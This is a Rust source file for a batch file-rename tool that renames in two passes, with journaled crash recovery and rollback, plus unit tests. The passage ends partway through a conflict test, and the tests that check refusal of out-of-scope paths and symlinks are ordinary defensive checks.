//! `rename_batch`: many renames as one proposal, applied all-or-nothing.
//!
//! Apply works in two passes through hidden temporary names (every source to
//! `.fusion-rename-<batch>-<n>` in its own folder, then every temporary name
//! to its target), so chains (`a→b, b→c`), swaps and cycles (`a→b, b→a`) and
//! case-only renames on case-insensitive volumes need no special ordering.
//!
//! Before the first rename a journal records every item with its file id, in
//! the device's own state folder, never in the allowed folder (see
//! [`journal`]). Where each item is can always be told from the disk alone —
//! at its source, its temporary name or its target, recognised by the file
//! id — so the journal is written once and never updated. A failure part-way
//! moves everything back in reverse; after a crash or power loss,
//! [`recover_renames`] does the same on the next start (or finishes the
//! batch, when every item had reached its target), then removes the journal.

mod journal;

use std::collections::{HashMap, HashSet};
use std::ffi::{OsStr, OsString};
use std::io;
use std::path::{Path, PathBuf};

use cap_std::fs::{Dir, Metadata};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::Access;
use crate::error::{BatchProblem, BatchProblemCode, Error, Result};
use crate::fsutil::{hex, id_of, identity};
use crate::scope::{Root, Scope, windows_hazard};
use crate::tool::{Context, MutateTool, ToolSpec};
use crate::{Effect, EffectOp, Expectation, PathState, Plan, Precondition};

/// The most pairs one batch takes.
pub const MAX_BATCH: usize = 20_000;

use journal::{Journal, JournalItem, batch_pending, journal_path, remove_journal, roll_back, write_journal};
pub use journal::{RENAME_JOURNAL, RecoveryOutcome, RenameRecovery, check_renames, recover_renames};

const TEMP_PREFIX: &str = ".fusion-rename-";

/// `rename_batch`: rename many files or folders as one approval.
#[derive(Debug, Clone, Copy, Default)]
pub struct RenameBatch;

/// Input of `rename_batch`.
#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RenameBatchInput {
    /// The renames, `{from, to}` each; paths as for every tool (relative to the
    /// first allowed folder, or absolute inside one), all in one allowed
    /// folder. Chains, swaps and cycles are fine; a pair whose `from` equals
    /// its `to` is left out. At most 20000 pairs.
    pub renames: Vec<RenamePair>,
}

/// One rename of a batch.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize, Serialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RenamePair {
    /// The file or folder to rename.
    pub from: String,
    /// Its new path, including the new name. Its folder must exist.
    pub to: String,
}

/// Output of `rename_batch`.
#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
pub struct RenameBatchOutput {
    /// Entries renamed.
    pub renamed: u64,
    /// Pairs left out because `from` and `to` were the same path.
    pub unchanged: u64,
    /// Renames that changed only the letter case of a name.
    pub case_only: u64,
    /// The allowed folder the batch ran in.
    pub root: String,
}

/// One rename, examined: relative paths inside the batch's root.
#[derive(Debug, Clone)]
pub(crate) struct Item {
    from: PathBuf,
    to: PathBuf,
    /// The source's identity when planned.
    id: String,
    case_only: bool,
}

/// What a plan hands to apply.
#[derive(Debug)]
pub struct Staged {
    root: usize,
    items: Vec<Item>,
    unchanged: u64,
}

impl MutateTool for RenameBatch {
    type Input = RenameBatchInput;
    type Output = RenameBatchOutput;
    type Staged = Staged;

    fn spec(&self) -> ToolSpec {
        ToolSpec::mutate(
            "rename_batch",
            "Rename many files or folders at once, e.g. a folder of scans to a naming schema: one list of \
             {from, to} pairs, one approval, applied all-or-nothing (a failure part-way puts every name back; \
             a crash is recovered on the next start). Chains, swaps and case-only renames are handled. \
             The plan lists every problem (missing source, two sources to one target, an existing target, \
             names Windows cannot hold) before anything moves.",
        )
    }

    fn plan(&self, cx: &Context<'_>, input: &Self::Input) -> Result<(Plan, Staged)> {
        examine(cx, input, cfg!(windows))
    }

    fn apply(&self, cx: &Context<'_>, _: &Self::Input, staged: Staged) -> Result<RenameBatchOutput> {
        run_batch(cx, staged, &mut |_| Step::Go)
    }
}

/// The parts of a path the batch needs, or the problem with it.
fn locate<'s>(
    scope: &'s Scope,
    path: &str,
) -> std::result::Result<(usize, &'s Root, PathBuf), (BatchProblemCode, String)> {
    let loc = scope.resolve(path).map_err(|e| match e {
        Error::OutsideScope { .. } => (BatchProblemCode::OutsideScope, e.to_string()),
        other => (BatchProblemCode::InvalidName, other.to_string()),
    })?;
    if loc.is_root() {
        return Err((
            BatchProblemCode::InvalidName,
            format!("{path} is an allowed folder itself; it cannot be renamed or replaced"),
        ));
    }
    let index = scope
        .roots()
        .iter()
        .position(|r| std::ptr::eq(r, loc.root()))
        .unwrap_or(0);
    Ok((index, loc.root(), loc.rel().to_path_buf()))
}

/// Builds the plan: every problem, or the renames with their precondition.
pub(crate) fn examine(
    cx: &Context<'_>,
    input: &RenameBatchInput,
    on_windows: bool,
) -> Result<(Plan, Staged)> {
    const TOOL: &str = "rename_batch";
    if input.renames.is_empty() {
        return Err(Error::invalid_input(
            TOOL,
            "renames",
            "is empty; list at least one {from, to} pair",
        ));
    }
    if input.renames.len() > MAX_BATCH {
        return Err(Error::invalid_input(
            TOOL,
            "renames",
            format!(
                "has {} pairs; one batch takes at most {MAX_BATCH}: split it by folder",
                input.renames.len()
            ),
        ));
    }
    let scope = cx.scope();
    let mut problems = Vec::new();
    let mut problem = |code, index: Option<usize>, path: &str, message: String| {
        problems.push(BatchProblem {
            code,
            index,
            path: path.to_string(),
            message,
        });
    };
    let mut root: Option<(usize, &Root)> = None;
    let mut items = Vec::with_capacity(input.renames.len());
    let mut index_of = Vec::with_capacity(input.renames.len());
    let mut unchanged = 0u64;
    for (i, pair) in input.renames.iter().enumerate() {
        if i % 256 == 0 {
            cx.checkpoint()?;
        }
        // A name Windows cannot hold is its own problem there, named as such
        // (the scope would only call it a path it refuses).
        if on_windows {
            let name = pair.to.rsplit(['/', '\\']).next().unwrap_or(&pair.to);
            if let Some(reason) = windows_name_problem(name) {
                problem(
                    BatchProblemCode::WindowsName,
                    Some(i),
                    &pair.to,
                    format!("{} cannot be a name on Windows: {reason}", pair.to),
                );
                continue;
            }
        }
        let ((from_root, batch_root, from), (to_root, _, to)) =
            match (locate(scope, &pair.from), locate(scope, &pair.to)) {
                (Ok(from), Ok(to)) => (from, to),
                (from, to) => {
                    for (end, path) in [(from, &pair.from), (to, &pair.to)] {
                        if let Err((code, message)) = end {
                            problem(code, Some(i), path, message);
                        }
                    }
                    continue;
                }
            };
        let (ri, r) = *root.get_or_insert((from_root, batch_root));
        if from_root != ri || to_root != ri {
            let path = if from_root != ri { &pair.from } else { &pair.to };
            problem(
                BatchProblemCode::DifferentRoot,
                Some(i),
                path,
                format!(
                    "{path} is not in {}, where the batch runs; one batch renames inside one allowed folder",
                    r.path().display()
                ),
            );
            continue;
        }
        if from == to {
            unchanged += 1;
            continue;
        }
        index_of.push(i);
        items.push(Item {
            from,
            to,
            id: String::new(),
            case_only: false,
        });
    }
    let Some((root_index, root)) = root else {
        return Err(Error::InvalidBatch { problems });
    };
    let display = |rel: &Path| root.path().join(rel).display().to_string();
    if root.access() == Access::ReadOnly {
        problem(
            BatchProblemCode::ReadOnly,
            None,
            &root.path().display().to_string(),
            format!(
                "{} is a read-only folder; allow it read-write on the device to rename there",
                root.path().display()
            ),
        );
    }
    if batch_pending(scope, root.path()) {
        problem(
            BatchProblemCode::BatchInProgress,
            None,
            &root.path().display().to_string(),
            "another rename batch is running in this folder, or one was interrupted; wait for it, or \
             restart the device to finish or roll it back"
                .into(),
        );
    }
    // Two sources, two targets, and paths inside renamed folders.
    let mut sources: HashMap<PathBuf, usize> = HashMap::with_capacity(items.len());
    let mut targets: HashMap<PathBuf, usize> = HashMap::with_capacity(items.len());
    for (k, item) in items.iter().enumerate() {
        let i = index_of[k];
        if let Some(&first) = sources.get(item.from.as_path()) {
            problem(
                BatchProblemCode::DuplicateSource,
                Some(i),
                &display(&item.from),
                format!(
                    "{} is renamed twice (pairs {} and {i}); keep one",
                    display(&item.from),
                    index_of[first]
                ),
            );
        } else {
            sources.insert(item.from.clone(), k);
        }
        if let Some(&first) = targets.get(item.to.as_path()) {
            problem(
                BatchProblemCode::DuplicateTarget,
                Some(i),
                &display(&item.to),
                format!(
                    "{} and {} both rename to {}; give one another name",
                    display(&items[first].from),
                    display(&item.from),
                    display(&item.to)
                ),
            );
        } else {
            targets.insert(item.to.clone(), k);
        }
    }
    for (k, item) in items.iter().enumerate() {
        for path in [&item.from, &item.to] {
            if let Some(folder) = path.ancestors().skip(1).find(|a| sources.contains_key(*a)) {
                problem(
                    BatchProblemCode::Nested,
                    Some(index_of[k]),
                    &display(path),
                    format!(
                        "{} is inside {}, which the same batch renames; rename the folder in a batch of its own",
                        display(path),
                        display(folder)
                    ),
                );
                break;
            }
        }
    }
    // A folder renamed away would take a read-only folder nested in it along.
    for (k, item) in items.iter().enumerate() {
        if let Some(ro) = root.read_only_under(&item.from) {
            problem(
                BatchProblemCode::ReadOnly,
                Some(index_of[k]),
                &display(&item.from),
                format!(
                    "{} holds {}, a read-only folder; rename what is around it, or allow that folder \
                     read-write on the device",
                    display(&item.from),
                    display(ro)
                ),
            );
        }
    }
    // The disk: every source exists, every target is free (or freed by the batch).
    let dir = root.dir();
    let mut folders: HashMap<PathBuf, std::result::Result<(), (BatchProblemCode, String)>> = HashMap::new();
    let mut expect = Vec::with_capacity(items.len() * 2);
    let mut source_states = Vec::with_capacity(items.len());
    for (k, item) in items.iter_mut().enumerate() {
        if k % 256 == 0 {
            cx.checkpoint()?;
        }
        let i = index_of[k];
        let md = match dir.symlink_metadata(&item.from) {
            Ok(md) => md,
            Err(e) => {
                let (code, message) = match Error::io(&root.path().join(&item.from), e) {
                    Error::NotFound { .. } | Error::NotADirectory { .. } => (
                        BatchProblemCode::SourceMissing,
                        format!(
                            "{} does not exist; check the name or list its folder",
                            display(&item.from)
                        ),
                    ),
                    e @ Error::OutsideScope { .. } => (BatchProblemCode::OutsideScope, e.to_string()),
                    e => return Err(e),
                };
                problem(code, Some(i), &display(&item.from), message);
                continue;
            }
        };
        let state = identity(&md);
        if let PathState::Identity { id, .. } = &state {
            item.id.clone_from(id);
        }
        source_states.push(Expectation {
            path: display(&item.from),
            state,
        });
        let parent = item.to.parent().unwrap_or(Path::new("")).to_path_buf();
        let folder = folders.entry(parent.clone()).or_insert_with(|| {
            let rel = if parent.as_os_str().is_empty() {
                Path::new(".")
            } else {
                &parent
            };
            match dir.metadata(rel) {
                Ok(md) if md.is_dir() => Ok(()),
                Ok(_) => Err((
                    BatchProblemCode::TargetFolderMissing,
                    format!("{} is not a folder", display(&parent)),
                )),
                Err(e) => match Error::io(&root.path().join(&parent), e) {
                    e @ Error::OutsideScope { .. } => Err((BatchProblemCode::OutsideScope, e.to_string())),
                    e => Err((
                        BatchProblemCode::TargetFolderMissing,
                        format!("{} ({e}); create the folder first", display(&parent)),
                    )),
                },
            }
        });
        if let Err((code, message)) = folder {
            problem(*code, Some(i), &display(&item.to), message.clone());
            continue;
        }
        match dir.symlink_metadata(&item.to) {
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                if !sources.contains_key(item.to.as_path()) {
                    expect.push(Expectation {
                        path: display(&item.to),
                        state: PathState::Absent,
                    });
                }
            }
            Err(e) => match Error::io(&root.path().join(&item.to), e) {
                e @ Error::OutsideScope { .. } => {
                    problem(
                        BatchProblemCode::OutsideScope,
                        Some(i),
                        &display(&item.to),
                        e.to_string(),
                    );
                }
                e => return Err(e),
            },
            Ok(existing) => {
                let same_file = identity(&existing) == source_states[source_states.len() - 1].state;
                if same_file && eq_ignoring_case(&item.from, &item.to) {
                    // A case-insensitive volume finds the source under its new spelling.
                    item.case_only = true;
                } else if !sources.contains_key(item.to.as_path()) {
                    problem(
                        BatchProblemCode::TargetExists,
                        Some(i),
                        &display(&item.to),
                        format!(
                            "{} already exists and the batch does not rename it away; choose another name \
                             or add a pair that renames it",
                            display(&item.to)
                        ),
                    );
                }
            }
        }
        if eq_ignoring_case(&item.from, &item.to) {
            item.case_only = true;
        }
    }
    if !problems.is_empty() {
        problems.sort_by_key(|p| p.index.unwrap_or(usize::MAX));
        return Err(Error::InvalidBatch { problems });
    }
    source_states.extend(expect);
    let effects: Vec<Effect> = items
        .iter()
        .zip(&source_states)
        .map(|(item, state)| {
            let effect = Effect::new(EffectOp::Move, display(&item.from)).to(display(&item.to));
            match &state.state {
                PathState::Identity { size, .. } => effect.bytes(*size),
                _ => effect,
            }
        })
        .collect();
    let folders_involved = items
        .iter()
        .flat_map(|i| [i.from.parent(), i.to.parent()])
        .collect::<HashSet<_>>()
        .len();
    let mut summary = format!(
        "rename {} entr{} in {} folder{} of {}",
        items.len(),
        if items.len() == 1 { "y" } else { "ies" },
        folders_involved,
        if folders_involved == 1 { "" } else { "s" },
        root.path().display()
    );
    if unchanged > 0 {
        summary.push_str(&format!(" ({unchanged} unchanged left out)"));
    }
    let plan = Plan::new(summary, effects, Precondition::new(source_states));
    Ok((
        plan,
        Staged {
            root: root_index,
            items,
            unchanged,
        },
    ))
}

fn eq_ignoring_case(a: &Path, b: &Path) -> bool {
    a != b && a.to_string_lossy().to_lowercase() == b.to_string_lossy().to_lowercase()
}

/// Why `name` cannot be a file name on Windows, if it cannot.
pub(crate) fn windows_name_problem(name: &str) -> Option<&'static str> {
    if name
        .chars()
        .any(|c| matches!(c, '<' | '>' | ':' | '"' | '|' | '?' | '*' | '\\') || c < ' ')
    {
        return Some(
            "it contains a character Windows does not allow in names (< > : \" | ? * \\ or a control character)",
        );
    }
    windows_hazard(name)
}

/// What the test hook says at a step of apply.
#[derive(Debug)]
pub(crate) enum Step {
    /// Carry on.
    Go,
    /// Fail this step with this error (a locked file, say).
    #[cfg_attr(not(test), allow(dead_code))]
    Fail(io::Error),
    /// Stop dead, as a crash would: no rollback, the journal stays.
    #[cfg_attr(not(test), allow(dead_code))]
    Crash,
}

/// Parent folders opened once, through the root's handle.
struct Folders<'d> {
    root: &'d Dir,
    open: HashMap<PathBuf, Dir>,
}

impl<'d> Folders<'d> {
    fn new(root: &'d Dir) -> Self {
        Folders {
            root,
            open: HashMap::new(),
        }
    }

    /// The folder holding `rel`, and `rel`'s name in it.
    fn split<'p>(&mut self, rel: &'p Path) -> io::Result<(&Dir, &'p OsStr)> {
        let name = rel
            .file_name()
            .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidInput, "a path with no name"))?;
        let parent = rel.parent().unwrap_or(Path::new("")).to_path_buf();
        if !self.open.contains_key(&parent) {
            let dir = if parent.as_os_str().is_empty() {
                self.root.try_clone()?
            } else {
                self.root.open_dir(&parent)?
            };
            self.open.insert(parent.clone(), dir);
        }
        Ok((&self.open[&parent], name))
    }

    /// Renames `from` to `to` (both relative to the root), never replacing
    /// whatever is at `to`.
    fn rename(&mut self, from: &Path, to: &Path) -> io::Result<()> {
        let (_, from_name) = self.split(from)?;
        let (_, to_name) = self.split(to)?;
        let from_parent = from.parent().unwrap_or(Path::new("")).to_path_buf();
        let to_parent = to.parent().unwrap_or(Path::new("")).to_path_buf();
        rename_noreplace(
            &self.open[&from_parent],
            from_name,
            &self.open[&to_parent],
            to_name,
        )
    }

    /// Makes every opened folder's entries durable.
    fn sync(&self) -> io::Result<()> {
        for dir in self.open.values() {
            sync_dir(dir)?;
        }
        Ok(())
    }
}

/// `rename(2)` that refuses to replace an existing target.
#[cfg(any(target_os = "linux", target_os = "android"))]
fn rename_noreplace(from_dir: &Dir, from: &OsStr, to_dir: &Dir, to: &OsStr) -> io::Result<()> {
    use rustix::fs::{RenameFlags, renameat_with};
    use rustix::io::Errno;
    match renameat_with(from_dir, from, to_dir, to, RenameFlags::NOREPLACE) {
        Ok(()) => Ok(()),
        // Filesystems without RENAME_NOREPLACE (some network mounts).
        Err(e) if e == Errno::INVAL || e == Errno::NOSYS || e == Errno::NOTSUP => {
            checked_rename(from_dir, from, to_dir, to)
        }
        Err(e) => Err(e.into()),
    }
}

#[cfg(not(any(target_os = "linux", target_os = "android")))]
fn rename_noreplace(from_dir: &Dir, from: &OsStr, to_dir: &Dir, to: &OsStr) -> io::Result<()> {
    checked_rename(from_dir, from, to_dir, to)
}

/// Looks, then renames: for systems without an atomic no-replace rename.
fn checked_rename(from_dir: &Dir, from: &OsStr, to_dir: &Dir, to: &OsStr) -> io::Result<()> {
    match to_dir.symlink_metadata(to) {
        // On a case-insensitive volume the source itself answers to a
        // case-only target; that is not an occupied target.
        Ok(md) if !same_entry(from_dir, from, &md) => {
            return Err(io::Error::new(
                io::ErrorKind::AlreadyExists,
                format!("{} appeared while the batch ran", Path::new(to).display()),
            ));
        }
        Ok(_) => {}
        Err(e) if e.kind() == io::ErrorKind::NotFound => {}
        Err(e) => return Err(e),
    }
    from_dir.rename(from, to_dir, to)
}

fn same_entry(dir: &Dir, name: &OsStr, other: &Metadata) -> bool {
    dir.symlink_metadata(name)
        .is_ok_and(|md| id_of(&md) == id_of(other))
}

/// Flushes a folder's entries. The root's handle may be a path-only
/// descriptor, which cannot be flushed, so the folder is opened for reading.
#[cfg(unix)]
fn sync_dir(dir: &Dir) -> io::Result<()> {
    use rustix::fs::{Mode, OFlags, fsync, openat};
    let fd = openat(
        dir,
        ".",
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )?;
    fsync(fd).map_err(io::Error::from)
}

/// NTFS journals its metadata; a folder cannot be flushed on Windows.
#[cfg(not(unix))]
fn sync_dir(_: &Dir) -> io::Result<()> {
    Ok(())
}

fn temp_for(item_from: &Path, batch: &str, n: usize) -> PathBuf {
    let name: OsString = format!("{TEMP_PREFIX}{batch}-{n}").into();
    match item_from.parent() {
        Some(parent) => parent.join(name),
        None => PathBuf::from(name),
    }
}

/// Applies a planned batch. `hook` is asked before every rename (step
/// numbers run through both passes); production passes one that says go.
pub(crate) fn run_batch(
    cx: &Context<'_>,
    staged: Staged,
    hook: &mut dyn FnMut(usize) -> Step,
) -> Result<RenameBatchOutput> {
    let root = &cx.scope().roots()[staged.root];
    let root_path = root.path().to_path_buf();
    let mut random = [0u8; 4];
    let _ = getrandom::fill(&mut random);
    let batch = hex(&random);
    let journal = Journal {
        version: journal::JOURNAL_VERSION,
        root: root_path.clone(),
        batch: batch.clone(),
        items: staged
            .items
            .iter()
            .enumerate()
            .map(|(n, item)| JournalItem {
                from: item.from.clone(),
                to: item.to.clone(),
                temp: temp_for(&item.from, &batch, n),
                id: item.id.clone(),
            })
            .collect(),
    };
    // Without a state folder the batch still rolls back on failure while
    // this process lives; only recovery after a crash needs the journal.
    let journal_file = journal_path(cx.scope(), &root_path, &batch);
    if let Some(path) = &journal_file {
        write_journal(path, &journal).map_err(|e| match e.kind() {
            io::ErrorKind::AlreadyExists => Error::Conflict {
                subject: path.display().to_string(),
                detail: "another rename batch with the same id started meanwhile; plan it again".into(),
            },
            _ => Error::io(path, e),
        })?;
    }
    let forget = || match &journal_file {
        Some(path) => remove_journal(path).map_err(|e| Error::io(path, e)),
        None => Ok(()),
    };
    let mut folders = Folders::new(root.dir());
    let mut step = 0;
    let mut failure = None;
    'passes: for pass in 0..2 {
        for (n, item) in journal.items.iter().enumerate() {
            let (from, to) = if pass == 0 {
                (&item.from, &item.temp)
            } else {
                (&item.temp, &item.to)
            };
            let outcome = match hook(step) {
                Step::Crash => return Err(Error::Cancelled),
                Step::Fail(e) => Err(e),
                Step::Go => match cx.checkpoint() {
                    Err(e) => Err(io::Error::other(e.to_string())),
                    Ok(()) => folders.rename(from, to),
                },
            };
            step += 1;
            if let Err(e) = outcome {
                failure = Some((n, e));
                break 'passes;
            }
        }
    }
    if let Some((n, e)) = failure {
        let item = &journal.items[n];
        let cause = Error::io(&root_path.join(&item.from), e);
        let undo = roll_back(root.dir(), &journal);
        let detail = serde_json::json!({
            "failed": {
                "index": n,
                "from": root_path.join(&item.from).display().to_string(),
                "to": root_path.join(&item.to).display().to_string(),
                "code": cause.code().as_str(),
                "message": cause.to_string(),
            },
            "items": journal.items.len(),
            "moved_back": undo.moved_back,
            "not_restored": undo.stuck.iter().map(|(i, why)| serde_json::json!({
                "index": i,
                "from": root_path.join(&journal.items[*i].from).display().to_string(),
                "temp": root_path.join(&journal.items[*i].temp).display().to_string(),
                "message": why,
            })).collect::<Vec<_>>(),
        });
        let message = if undo.stuck.is_empty() {
            let _ = folders.sync();
            let _ = forget();
            format!(
                "renaming {} to {} failed ({cause}); the {} rename(s) already done were undone, so every \
                 name is as it was: close any program holding the file and plan the batch again",
                root_path.join(&item.from).display(),
                root_path.join(&item.to).display(),
                undo.moved_back
            )
        } else {
            let next = match &journal_file {
                Some(path) => format!(
                    "the journal {} is kept and the next start of the device retries",
                    path.display()
                ),
                None => "move them back by hand (their temporary names are in the details)".into(),
            };
            format!(
                "renaming {} failed ({cause}) and {} item(s) could not be moved back (see details); {next}",
                root_path.join(&item.from).display(),
                undo.stuck.len(),
            )
        };
        return Err(Error::BatchFailed {
            message,
            details: detail,
        });
    }
    folders.sync().map_err(|e| Error::io(&root_path, e))?;
    forget()?;
    Ok(RenameBatchOutput {
        renamed: journal.items.len() as u64,
        unchanged: staged.unchanged,
        case_only: staged.items.iter().filter(|i| i.case_only).count() as u64,
        root: root_path.display().to_string(),
    })
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::super::testutil::{Fixture, code};
    use super::*;
    use crate::{ErrorCode, Mode};

    fn pairs(list: &[(&str, &str)]) -> Value {
        json!({ "renames": list.iter().map(|(f, t)| json!({ "from": f, "to": t })).collect::<Vec<_>>() })
    }

    fn input(list: &[(&str, &str)]) -> RenameBatchInput {
        serde_json::from_value(pairs(list)).unwrap()
    }

    /// Every name under the root with its content (journal and temporary
    /// names included, so a leftover shows).
    fn state(f: &Fixture) -> Vec<(String, String)> {
        f.snapshot()
            .into_iter()
            .filter_map(|(p, c)| {
                let p = p.display().to_string().replace('\\', "/");
                c.map(|c| (p, String::from_utf8_lossy(&c).into_owned()))
            })
            .collect()
    }

    fn problems(e: &Error) -> Vec<(BatchProblemCode, Option<usize>)> {
        match e {
            Error::InvalidBatch { problems } => problems.iter().map(|p| (p.code, p.index)).collect(),
            other => panic!("expected invalid_batch, got {other:?}"),
        }
    }

    #[test]
    fn plan_lists_renames_and_apply_does_them() {
        let f = Fixture::new();
        f.write("scans/Scan_0001.e57", "one");
        f.write("scans/Scan_0002.e57", "two");
        let before = f.snapshot();
        let list = [
            ("scans/Scan_0001.e57", "scans/2026-11-03_north_001.e57"),
            ("scans/Scan_0002.e57", "scans/2026-11-03_north_002.e57"),
            ("scans/Scan_0002.e57", "scans/other.e57"),
        ];
        let e = f.plan_err("rename_batch", pairs(&list));
        assert_eq!(
            problems(&e),
            [(BatchProblemCode::DuplicateSource, Some(2))],
            "{e}"
        );
        let list = &list[..2];
        let plan = f.plan("rename_batch", pairs(list));
        assert_eq!(f.snapshot(), before, "plan must not touch the disk");
        assert_eq!(plan.effects_total, 2);
        assert!(
            plan.summary.starts_with("rename 2 entries in 1 folder of "),
            "{}",
            plan.summary
        );
        assert_eq!(plan.effects[0].op, EffectOp::Move);
        assert_eq!(plan.effects[0].bytes, Some(3));
        assert!(
            plan.effects[1]
                .to
                .as_deref()
                .unwrap()
                .ends_with("2026-11-03_north_002.e57")
        );
        assert!(
            matches!(
                &plan.precondition.expect[0].state,
                PathState::Identity { size: 3, .. }
            ),
            "sources are known by identity, not hashed: {:?}",
            plan.precondition
        );
        assert_eq!(plan.precondition.expect[2].state, PathState::Absent);
        let out = f.apply("rename_batch", pairs(list), &plan).unwrap();
        assert_eq!(out["renamed"], 2);
        assert_eq!(
            state(&f),
            [
                ("scans/2026-11-03_north_001.e57".into(), "one".into()),
                ("scans/2026-11-03_north_002.e57".into(), "two".into()),
            ]
        );
    }

    #[test]
    fn swaps_cycles_and_chains_need_no_ordering() {
        let f = Fixture::new();
        for name in ["a", "b", "c", "x", "y"] {
            f.write(name, name);
        }
        let list = [("a", "b"), ("b", "c"), ("c", "a"), ("x", "y"), ("y", "z")];
        let plan = f.plan("rename_batch", pairs(&list));
        f.apply("rename_batch", pairs(&list), &plan).unwrap();
        let expect: Vec<(String, String)> = [("a", "c"), ("b", "a"), ("c", "b"), ("y", "x"), ("z", "y")]
            .iter()
            .map(|(p, c)| (p.to_string(), c.to_string()))
            .collect();
        assert_eq!(state(&f), expect);
    }

    #[test]
    fn case_only_and_folder_renames() {
        let f = Fixture::new();
        f.write("Scan.E57", "s");
        f.write("old/inner.txt", "i");
        let list = [("Scan.E57", "scan.e57"), ("old", "new")];
        let plan = f.plan("rename_batch", pairs(&list));
        let out = f.apply("rename_batch", pairs(&list), &plan).unwrap();
        assert_eq!(out["case_only"], 1);
        assert_eq!(
            state(&f),
            [
                ("new/inner.txt".to_string(), "i".to_string()),
                ("scan.e57".into(), "s".into())
            ]
        );
    }

    #[test]
    fn every_problem_has_its_code_and_nothing_moves() {
        let f = Fixture::new();
        for name in ["a", "b", "c", "g", "taken", "dir/in", "file"] {
            f.write(name, name);
        }
        let before = f.snapshot();
        let list = [
            ("missing", "m2"),        // 0 source_missing
            ("a", "same"),            // 1
            ("b", "same"),            // 2 duplicate_target
            ("c", "taken"),           // 3 target_exists
            ("file", "nowhere/file"), // 4 target_folder_missing
            ("file", "file2"),        // 5 duplicate_source
            ("x", "../escaped"),      // 6 outside_scope
            ("/etc/hostname", "h"),   // 7 outside_scope
            (".", "root2"),           // 8 invalid_name
            ("dir", "dir2"),          // 9
            ("dir/in", "dir/out"),    // 10 nested
            ("g", "taken/under"),     // 11 target_folder_missing (a file, not a folder)
        ];
        let e = f.plan_err("rename_batch", pairs(&list));
        assert_eq!(code(&e), ErrorCode::InvalidBatch);
        assert_eq!(
            problems(&e),
            [
                (BatchProblemCode::SourceMissing, Some(0)),
                (BatchProblemCode::DuplicateTarget, Some(2)),
                (BatchProblemCode::TargetExists, Some(3)),
                (BatchProblemCode::TargetFolderMissing, Some(4)),
                (BatchProblemCode::DuplicateSource, Some(5)),
                (BatchProblemCode::OutsideScope, Some(6)),
                (BatchProblemCode::OutsideScope, Some(7)),
                (BatchProblemCode::InvalidName, Some(8)),
                (BatchProblemCode::Nested, Some(10)),
                (BatchProblemCode::TargetFolderMissing, Some(11)),
            ]
        );
        let message = e.to_string();
        assert!(
            message.starts_with("10 problem(s) in the batch, nothing was changed:"),
            "{message}"
        );
        assert!(message.contains("(source_missing)"), "{message}");
        let body = e.to_body();
        assert_eq!(body.code, "invalid_batch");
        let details = body.details.unwrap();
        assert_eq!(details["problems_total"], 10);
        assert_eq!(details["problems"][1]["code"], "duplicate_target");
        assert!(
            details["problems"][1]["message"]
                .as_str()
                .unwrap()
                .contains("both rename to"),
            "{details}"
        );
        assert_eq!(f.snapshot(), before);
    }

    #[test]
    fn read_only_roots_windows_names_and_a_running_batch_are_problems() {
        let f = Fixture::with_access(Access::ReadOnly);
        f.write("a", "a");
        let e = f.plan_err("rename_batch", pairs(&[("a", "b")]));
        assert_eq!(problems(&e), [(BatchProblemCode::ReadOnly, None)]);

        let f = Fixture::new();
        for name in ["a", "b", "c", "d", "e"] {
            f.write(name, name);
        }
        let cx = Context::new(&f.scope);
        let windows = input(&[
            ("a", "CON.e57"),
            ("b", "x?.e57"),
            ("c", "trailing."),
            ("d", "fine.e57"),
        ]);
        let e = examine(&cx, &windows, true).unwrap_err();
        assert_eq!(
            problems(&e),
            [
                (BatchProblemCode::WindowsName, Some(0)),
                (BatchProblemCode::WindowsName, Some(1)),
                (BatchProblemCode::WindowsName, Some(2)),
            ]
        );
        // A journal file in the folder is anyone's: it blocks nothing.
        f.write(RENAME_JOURNAL, "{}");
        f.plan("rename_batch", pairs(&[("e", "f")]));
        // The device's own journal of an interrupted batch does.
        let (_, staged) = examine(&cx, &input(&[("e", "f")]), false).unwrap();
        run_batch(&cx, staged, &mut |_| Step::Crash).unwrap_err();
        let e = f.plan_err("rename_batch", pairs(&[("e", "f")]));
        assert_eq!(problems(&e), [(BatchProblemCode::BatchInProgress, None)]);
    }

    #[test]
    fn two_roots_are_two_batches() {
        let one = tempfile::tempdir().unwrap();
        let two = tempfile::tempdir().unwrap();
        std::fs::write(one.path().join("a"), "a").unwrap();
        let scope = Scope::new([(one.path(), Access::ReadWrite), (two.path(), Access::ReadWrite)]).unwrap();
        let cx = Context::new(&scope);
        let to = dunce::canonicalize(two.path()).unwrap().join("a");
        let e = examine(&cx, &input(&[("a", to.to_str().unwrap())]), false).unwrap_err();
        assert_eq!(problems(&e), [(BatchProblemCode::DifferentRoot, Some(0))]);
    }

    #[cfg(unix)]
    #[test]
    fn targets_through_links_out_of_the_root_are_refused() {
        let outside = tempfile::tempdir().unwrap();
        let f = Fixture::new();
        f.write("a", "a");
        super::super::testutil::symlink(outside.path(), f.path("out"));
        let e = f.plan_err("rename_batch", pairs(&[("a", "out/a")]));
        assert_eq!(problems(&e), [(BatchProblemCode::OutsideScope, Some(0))], "{e}");
        // A parent swapped for a link out between plan and apply.
        f.write("sub/b", "b");
        let list = [("sub/b", "sub/c")];
        let plan = f.plan("rename_batch", pairs(&list));
        std::fs::rename(f.path("sub"), f.path("sub-moved")).unwrap();
        super::super::testutil::symlink(outside.path(), f.path("sub"));
        std::fs::write(outside.path().join("b"), "outside").unwrap();
        let e = f.apply("rename_batch", pairs(&list), &plan).unwrap_err();
        assert_eq!(code(&e), ErrorCode::Conflict, "{e}");
        assert_eq!(
            std::fs::read_to_string(outside.path().join("b")).unwrap(),
            "outside"
        );
        assert!(!outside.path().join("c").exists());
        assert_eq!(f.state_files(), Vec::<PathBuf>::new(), "no journal is left");
    }

    #[test]
    fn apply_answers_conflict_naming_what_changed() {
        let f = Fixture::new();
        f.write("a", "a");
        f.write("b", "b");
        let list = [("a", "a2"), ("b", "b2")];
        let plan = f.plan("rename_batch", pairs(&list));
        f.write("b", "bigger now");
        let e = f.apply("rename_batch", pairs(&list), &plan).unwrap_err();
